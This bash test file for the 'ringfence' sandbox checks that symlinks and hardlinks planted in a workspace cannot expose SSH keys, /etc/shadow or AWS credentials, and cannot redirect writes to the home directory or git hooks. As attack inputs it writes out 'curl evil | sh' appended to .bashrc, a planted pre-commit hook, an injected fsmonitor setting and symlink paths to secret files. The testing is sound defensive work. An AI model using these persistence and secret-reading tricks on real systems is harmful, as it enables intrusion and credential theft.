# Symlinks and hardlinks: links planted in the workspace give no access to
# secrets or to outside writable places; symlinks planted on protected paths
# between runs make ringfence refuse (fail closed); honest links work.
# shellcheck shell=bash disable=SC2016,SC2088,SC2119
. "${BASH_SOURCE[0]%/*}/_common.bash"

t_symlink_to_ssh_key_no_content() {
	ln -s "$FAKE_HOME/.ssh/id_rsa" "$WS/key"
	ln -s "$FAKE_HOME/.ssh" "$WS/sshdir"
	sbp -- sh -c "cat key; cat sshdir/id_rsa; ls sshdir"
	expect_denied "read ~/.ssh/id_rsa through a workspace symlink"
	expect_not_out "SECRET-SSH-KEY" "key content"
	expect_not_out "id_rsa" "listing through the symlink"
}

t_symlink_to_shadow_no_content() {
	ln -s /etc/shadow "$WS/sh"
	ln -s ../../../../../../../../etc/shadow "$WS/rel"
	sbp -- sh -c "cat sh; cat rel"
	expect_denied "read /etc/shadow through workspace symlinks"
	expect_not_out "root:" "shadow content"
}

t_symlink_to_readable_file_works() { # neighbour: the link itself is fine
	ln -s /etc/hostname "$WS/hn"
	ln -s "$FAKE_HOME/.bashrc" "$WS/rc"
	sbp -- sh -c "cat hn >/dev/null && cat rc"
	expect_rc 0 "read allowed files through workspace symlinks"
	expect_out "export OK=1" "bashrc through a symlink"
}

t_symlink_out_of_workspace_not_writable() {
	local d; d=$(mktemp -d "$RF_TEST_TMP/outw.XXXXXX")
	ln -s "$d" "$WS/out"
	ln -s "$d/file" "$WS/outfile"
	sbp -- sh -c "$PROBE write out/planted; $PROBE write outfile; echo x > out/planted2"
	expect_denied "write through symlinks to a host dir outside the workspace"
	expect_true test ! -e "$d/planted" -a ! -e "$d/file" -a ! -e "$d/planted2"
}

t_symlink_to_home_not_writable() {
	ln -s "$FAKE_HOME" "$WS/home"
	sbp -- sh -c "echo 'curl evil | sh' >> home/.bashrc; $PROBE write home/.profile"
	expect_denied "write the home through a workspace symlink"
	expect_true test ! -e "$FAKE_HOME/.profile"
	expect_true test "$(cat "$FAKE_HOME/.bashrc")" = "export OK=1"
}

t_symlink_to_host_tmp_stays_private() {
	local m="rf-symtmp-${WS##*.}"
	ln -s /tmp "$WS/t"
	sbp -- "$PROBE" write "t/$m"
	# /tmp inside is private: the write may succeed, but never lands on the host
	expect_true test ! -e "/tmp/$m"
	rm -f "/tmp/$m"
}

t_hardlink_home_file_into_workspace_fails() {
	sbp -- "$PROBE" link "$FAKE_HOME/.bashrc" "$WS/rc"
	expect_denied "hardlink ~/.bashrc into the workspace"
	expect_true test ! -e "$WS/rc"
	sbp -- ln "$FAKE_HOME/.ssh/id_rsa" "$WS/key"
	expect_denied "hardlink ~/.ssh/id_rsa into the workspace"
	expect_true test ! -e "$WS/key"
}

t_hardlink_system_file_into_workspace_fails() {
	sbp -- "$PROBE" link /etc/passwd "$WS/pw"
	expect_denied "hardlink /etc/passwd into the workspace"
	expect_out "DENIED" "link"
	expect_true test ! -e "$WS/pw"
}

t_hardlink_within_workspace_works() { # neighbour
	echo data >"$WS/a"
	sbp -- sh -c "$PROBE link a b && cat b"
	expect_rc 0 "hardlink inside the workspace"
	expect_out "data" "content through the hardlink"
	expect_true test "$(stat -c %h "$WS/a")" = 2
}

t_honest_symlinks_in_workspace_work() { # neighbour
	mkdir "$WS/src"
	echo code >"$WS/src/main.c"
	sbp -- sh -c "ln -s src/main.c m && cat m && ln -s src s && echo more >> s/main.c && ln -sf main.c src/alias && readlink src/alias"
	expect_rc 0 "symlinks within the workspace"
	expect_out "code" "read through symlink"
	expect_true grep -qx more "$WS/src/main.c"
}

# --- symlinks planted between runs where protected paths land: fail closed ---

_expect_refused() {
	expect_rc 125 "$1: ringfence must refuse to run"
	expect_err "ringfence: " "$1: message"
	expect_not_out "RAN" "$1: the command must not run"
}

t_planted_hooks_symlink_refused() {
	git_repo
	rm -rf "$WS/.git/hooks"
	ln -s /tmp "$WS/.git/hooks"
	sbp -- sh -c "echo RAN; $PROBE write .git/hooks/pre-commit"
	_expect_refused ".git/hooks -> /tmp"
	expect_err "symlink" "names the symlink"
}

t_planted_hooks_symlink_to_writable_dir_refused() {
	local d; d=$(mktemp -d "$RF_TEST_TMP/evilhooks.XXXXXX")
	git_repo
	rm -rf "$WS/.git/hooks"
	ln -s "$d" "$WS/.git/hooks"
	sbp --writable-root "$d" -- sh -c "echo RAN; printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit"
	_expect_refused ".git/hooks -> a writable root"
	expect_true test ! -e "$d/pre-commit"
}

t_planted_git_config_symlink_refused() {
	local d; d=$(mktemp -d "$RF_TEST_TMP/evilcfg.XXXXXX")
	git_repo
	mv "$WS/.git/config" "$d/config"
	ln -s "$d/config" "$WS/.git/config"
	sbp --writable-root "$d" -- sh -c "echo RAN; echo '[core] fsmonitor = evil' >> .git/config"
	_expect_refused ".git/config -> a writable root"
	expect_true test "$(grep -c fsmonitor "$d/config")" = 0
}

t_planted_ringfence_dir_symlink_refused() {
	local d; d=$(mktemp -d "$RF_TEST_TMP/evilrf.XXXXXX")
	ln -s "$d" "$WS/.ringfence"
	sbp --writable-root "$d" -- sh -c "echo RAN; echo 'x' > .ringfence/config.toml"
	_expect_refused ".ringfence -> a writable root"
	expect_true test ! -e "$d/config.toml"
}

t_planted_git_dir_symlink_refused() {
	# .git itself a symlink to a repo in a writable root: its hooks would be
	# writable through the writable root unless ringfence refuses or protects them.
	local d; d=$(mktemp -d "$RF_TEST_TMP/evilgit.XXXXXX")
	git_repo "$d/repo"
	mv "$d/repo/.git" "$d/gitdir"
	ln -s "$d/gitdir" "$WS/.git"
	sbp --writable-root "$d" -- sh -c "printf '#!/bin/sh\necho pwned\n' > .git/hooks/pre-commit"
	[ "$RC" = 125 ] && return 0 # refusing is fine
	expect_denied "write hooks through a .git symlink into a writable root"
	expect_true test ! -e "$d/gitdir/hooks/pre-commit"
}

t_real_protected_dirs_run_normally() { # neighbour of the refusals
	git_repo
	sbp -- sh -c "echo RAN; ls .git/hooks >/dev/null"
	expect_rc 0 "a repo with real .git/hooks"
	expect_out "RAN" "the command ran"
}

# --- symlinks planted where a grant's bind mount lands -------------------------------
# A grant (--read-only, --writable-root) whose path goes through a symlink
# inside the workspace could have been redirected by an earlier run: refused.

t_planted_writable_root_symlink_refused() {
	mkdir -p "$WS/build/out"
	sbp --writable-root "$WS/build/out" -- true
	expect_rc 0 "a real writable root inside the workspace"
	rm -rf "$WS/build/out"
	ln -s "$FAKE_HOME" "$WS/build/out" # what the agent leaves for the next run
	sbp --writable-root "$WS/build/out" -- sh -c "echo RAN; echo 'curl evil | sh' >> build/out/.bashrc"
	_expect_refused "--writable-root through a planted symlink"
	expect_err "symlink inside the writable" "names the planted symlink"
	expect_true test "$(cat "$FAKE_HOME/.bashrc")" = "export OK=1"
}

t_planted_writable_root_parent_symlink_refused() {
	mkdir -p "$WS/real"
	ln -s "$FAKE_HOME" "$WS/link"
	sbp --writable-root "$WS/link/.config" -- sh -c "echo RAN"
	_expect_refused "--writable-root below a planted symlink"
}

t_planted_read_only_symlink_refused() {
	ln -s "$FAKE_HOME/.ssh" "$WS/docs"
	sbp --read-only "$WS/docs" -- sh -c "echo RAN; cat docs/id_rsa"
	_expect_refused "--read-only through a planted symlink"
	expect_not_out "SECRET-SSH-KEY" "the key"
}

t_symlinked_grant_outside_workspace_works() { # neighbour: the user's own symlinks
	local d; d=$(mktemp -d "$RF_TEST_TMP/real.XXXXXX")
	echo shared >"$d/file"
	ln -s "$d" "$FAKE_HOME/shared-link"
	sbp --read-only "$FAKE_HOME/shared-link" -- cat "$d/file"
	expect_rc 0 "a grant through a symlink the sandbox cannot write"
	expect_out "shared" "content"
}

t_symlinked_secret_covered_where_it_points() {
	mkdir -p "$FAKE_HOME/vault/aws"
	echo SECRET-REAL-AWS >"$FAKE_HOME/vault/aws/credentials"
	rm -rf "$FAKE_HOME/.aws"
	ln -s "$FAKE_HOME/vault/aws" "$FAKE_HOME/.aws"
	sbp -- sh -c 'cat ~/.aws/credentials; cat ~/vault/aws/credentials'
	expect_not_out "SECRET-REAL-AWS" "a hidden path that is a symlink: its target"
}

t_cache_symlinked_to_secret_no_content() {
	rm -rf "$FAKE_HOME/.cache"
	ln -s "$FAKE_HOME/.ssh" "$FAKE_HOME/.cache"
	sbp -- sh -c 'cat ~/.cache/id_rsa; ls ~/.cache'
	expect_not_out "SECRET-SSH-KEY" "a package cache path pointing at a secret"
	expect_not_out "id_rsa" "listing"
}
